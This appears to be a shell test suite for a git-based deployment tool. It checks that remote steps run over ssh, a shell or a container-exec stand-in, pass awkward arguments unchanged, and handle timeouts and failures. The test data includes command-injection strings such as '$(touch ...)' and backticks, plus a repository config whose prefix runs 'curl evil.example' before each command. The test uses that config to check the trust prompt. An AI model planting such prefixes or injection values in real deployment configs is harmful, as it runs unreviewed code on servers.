#!/bin/sh
# The commands of an environment run elsewhere: over a real sshd, through a
# shell, and through what hands arguments on as they are.
# shellcheck disable=SC1091,SC2016,SC2317
. "$(dirname "$0")/lib/tap.sh"
. "$TESTS_DIR/lib/draw.sh"
. "$TESTS_DIR/lib/platform.sh"
. "$TESTS_DIR/lib/servers.sh"

have_ssh && start_ssh || skip_all 'no sshd or ssh'

CONFIG=$WORK_PLATFORM/info/gitupgrade.yaml
FAR=$WORK/far
SAY=$WORK/far/say

# What runs there: it writes down what it was given, and where
draw_far()
{
	mkdir -p "$FAR/in side"
	cat >"$SAY" <<-EOT
	#!/bin/sh
	{
		printf '<%s>\n' "\$@"
		echo "in \$(pwd)"
	} >>"$WORK/said"
	if read -r line
	then
		echo "stdin has \$line" >>"$WORK/said"
	fi
	env | grep '^UPGRADE_' | sort >"$WORK/environment"
	echo "printed there"
	exit "\$(cat "$WORK/code" 2>/dev/null || echo 0)"
	EOT
	chmod +x "$SAY"
	# Stands for `podman exec`: a name, then a program and its arguments
	cat >"$WORK/exec" <<-'EOT'
	#!/bin/sh
	[ "$1" = shop ] || exit 125
	shift
	exec "$@"
	EOT
	chmod +x "$WORK/exec"
}

# config PREFIX [MORE]: the platform's, with one step that has hard words
config()
{
	cat >"$CONFIG" <<-EOT
	format: 1
	profile: generic
	deploy:
	  steps:
	    - name: words
	      run:
	        - $SAY
	        - "two  words"
	        - "it's"
	        - "\"double\""
	        - 'back\slash'
	        - "line\nbreak"
	        - "\$(touch $WORK/oops)"
	        - "\`touch $WORK/oops\`"
	        - "\$HOME"
	        - "*"
	        - "-n"
	        - "--"
	        - "~"
	        - "a;b"
	        - ">x"
	        - "{release}"
	verify:
	  health:
	    run: [$SAY, healthy]
	environments:
	  production:
	    deploy_to: $SRV
	    prefix: $1
	EOT
	[ -z "${2-}" ] || printf '    %s\n' "$2" >>"$CONFIG"
}

hard_words()
{
	printf '<%s>\n' 'two  words' "it's" '"double"' 'back\slash' 'line
break' "\$(touch $WORK/oops)" "\`touch $WORK/oops\`" '$HOME' '*' -n -- '~' \
		'a;b' '>x' v1.0.0
	echo "in $1"
	echo '<healthy>'
	echo "in $1"
}

push_note()
{
	: >"$WORK/said"
	rm -f "$WORK/environment"
	echo "$1" >note.txt
	commit "$1"
	git push platform production >"$WORK/out" 2>"$WORK/err"
}

# At the far end one is where one logs in.
arrived()
{
	hard_words "$1" >"$TRASH/tmp/words"
	same "$TRASH/tmp/words" "$WORK/said"
	missing "$WORK/oops"
	missing x
	missing "$HOME/x"
	is "$(git rev-parse HEAD)" "$(ref verified/production)"
	has "^remote: printed there" "$WORK/err"
}

story 'over ssh every argument arrives as it is' '
	draw_far
	draw_clone prod
	cd prod
	draw_platform
	config "[ssh, -F, $TRASH/ssh/config, git.example]"
	push_note Ssh
	arrived "$(ssh -F "$TRASH/ssh/config" git.example pwd)"
'

story 'and so do UPGRADE_*, but for the folder, which is here' '
	cd prod
	has "^UPGRADE_ENV=production" ../environment
	has "^UPGRADE_RELEASE=v1.0.0" ../environment
	has "^UPGRADE_COMMIT=$(git rev-parse HEAD)" ../environment
	has "^UPGRADE_DEPLOY=.*-$(git rev-parse --short=12 HEAD)" \
		../environment
	lacks "^UPGRADE_RELEASE_DIR" ../environment
	lacks "stdin has" ../said
'

story 'a folder there is the release there' '
	cd prod
	config "[ssh, -F, $TRASH/ssh/config, git.example]" \
		"prefix_dir: \"$FAR/in side\""
	push_note Folder
	arrived "$FAR/in side"
	has "^UPGRADE_RELEASE_DIR=$FAR/in side" ../environment
	mkdir -p "../far/v1.0.0/sub dir"
	config "[ssh, -F, $TRASH/ssh/config, git.example]" \
		"prefix_dir: $FAR/{release}"
	sed -i "s/^    - name: words/&\n      dir: sub dir/" "$CONFIG"
	push_note "Folder of a release"
	has "^in $FAR/v1.0.0/sub dir" ../said
	has "^in $FAR/v1.0.0\$" ../said
	has "^UPGRADE_RELEASE_DIR=$FAR/v1.0.0\$" ../environment
'

story 'through a shell, when it is said to be one' '
	cd prod
	config "[sh, -c]" "prefix_shell: true"
	push_note Shell
	arrived "$(readlink -f ../srv/current)"
'

story 'through what hands on arguments, nothing is quoted' '
	cd prod
	config "[$WORK/exec, shop]"
	push_note Exec
	arrived "$(readlink -f ../srv/current)"
'

story 'over ssh into what hands on arguments' '
	cd prod
	config "[ssh, -F, $TRASH/ssh/config, git.example, $WORK/exec, shop]" \
		"prefix_dir: $FAR"
	push_note "Ssh and exec"
	arrived "$FAR"
'

story 'exit codes and output come back' '
	cd prod
	config "[ssh, -F, $TRASH/ssh/config, git.example]"
	echo 7 >../code
	push_note Code
	has "step .words.: exit code 7" ../err
	has "^remote: printed there" ../err
	lacks "it may be the way there that fails" ../err
	is failed "$(last_event outcome)"
	rm ../code
'

story 'checks run there, too, and say what was said there' '
	cd prod
	config "[$WORK/exec, shop]"
	sed -i "s/run: \[.*healthy\]/run: [sh, -c, \"echo ill; exit 1\"]/" \
		"$CONFIG"
	push_note Ill
	has "health 0/1: exit code 1: ill" ../err
'

story 'who cannot be reached is told, with what to try' '
	cd prod
	config "[ssh, -F, $TRASH/ssh/config, -o, ProxyCommand=false, git.example]"
	push_note Unreachable
	has "step .words.: exit code 255" ../err
	has "hint: it may be the way there that fails; try it" ../err
	has "ProxyCommand=false git.example true </dev/null" ../err
	is failed "$(last_event outcome)"
	same /dev/null ../said
	config "[$WORK/no-such-program, shop]"
	push_note Absent
	has "step .words.: cannot run .*no-such-program" ../err
	config "[$WORK/exec, kiosk]"
	push_note Elsewhere
	has "step .words.: exit code 125" ../err
	has "hint: it may be the way there that fails" ../err
'

story 'what decides about a step and cannot be asked is no "no"' '
	cd prod
	config "[ssh, -F, $TRASH/ssh/config, -o, ProxyCommand=false, git.example]"
	sed -i "s|^    - name: words|&\n      only_if: [test, -e, /]|" "$CONFIG"
	push_note Unasked
	has "step .words., only_if: exit code 255" ../err
	has "hint: it may be the way there that fails; try it" ../err
	lacks "left out" ../err
	is failed "$(last_event outcome)"
	config "[ssh, -F, $TRASH/ssh/config, git.example]"
	sed -i "s|^    - name: words|&\n      only_if: [test, -e, /no/such]|" \
		"$CONFIG"
	push_note "Asked, and no"
	has "left out  *words" ../err
	is ok "$(last_event outcome)"
'

story 'no folder there is a failure that names it' '
	cd prod
	config "[ssh, -F, $TRASH/ssh/config, git.example]" \
		"prefix_dir: /no/such"
	push_note "No folder"
	has "/no/such" ../err
	has "step .words.: exit code 126" ../err
	same /dev/null ../said
'

gone()
{
	! grep -q -a "far-sleeper" /proc/[0-9]*/cmdline 2>/dev/null
}

story 'a time limit ends the near side, and the far one' '
	cd prod
	cat >../far/far-sleeper <<-EOT
	#!/bin/sh
	echo "it sleeps"
	exec tail -f /dev/null "$FAR/far-sleeper"
	EOT
	chmod +x ../far/far-sleeper
	config "[ssh, -F, $TRASH/ssh/config, git.example]"
	sed -i "s|^        - $SAY|        - $FAR/far-sleeper|
		s|^    - name: words|&\n      timeout: 1s|" "$CONFIG"
	push_note Sleeps
	has "^remote: it sleeps" ../err
	has "step .words.: no end after 1 s" ../err
	has "hint: what it began at the far end may go on" ../err
	wait_for 20 gone
'

# A connection that is lost: what was begun there knows nothing of it.
story 'a connection that is lost says nothing of what it began' '
	cd prod
	cat >../lost <<-EOT
	#!/bin/sh
	echo "Connection closed by remote host" >&2
	exit 255
	EOT
	chmod +x ../lost
	cp "$CONFIG" ../kept
	config "[$WORK/lost]"
	push_note Lost
	cp ../kept "$CONFIG"
	has "step .words.: exit code 255" ../err
	has "hint: what it began at the far end may go on" ../err
	has "hint: it may be the way there that fails" ../err
'

story 'a prefix that came with the tree is to be trusted' '
	cd prod
	cat >.gitupgrade.yaml <<-EOT
	format: 1
	profile: generic
	environments:
	  production:
	    prefix: [sh, -c, "curl evil.example; \"\$@\""]
	    prefix_dir: /srv/evil
	EOT
	git add .gitupgrade.yaml
	git commit -q -m Evil
	git upgrade trust --yes >../out 2>&1
	has "environments.production.prefix: sh -c .curl evil.example" ../out
	has "environments.production.prefix_dir: /srv/evil" ../out
	git upgrade trust --list >../list
	is 1 "$(grep -c . ../list)"
	sed -i "s|/srv/evil|/srv/other|" .gitupgrade.yaml
	git commit -q -a -m Other
	git upgrade trust --yes >../out 2>&1
	git upgrade trust --list >../list
	is 2 "$(grep -c . ../list)"
'

story 'a host shows what its steps would run through' '
	git clone -q platform.git host
	cd host
	git checkout -q production
	cp "$CONFIG" ../host.yaml
	git config upgrade.profile "$WORK/host.yaml"
	git upgrade deploy -n 2>../out
	has "^  through    ssh -F .* git.example" ../out
	has "^  step       words" ../out
	git config upgrade.environments.production.prefix-shell maybe
	expect_code 128 git upgrade deploy -n 2>../err
	has "prefix-shell: expected true or false, not .maybe." ../err
'

done_testing
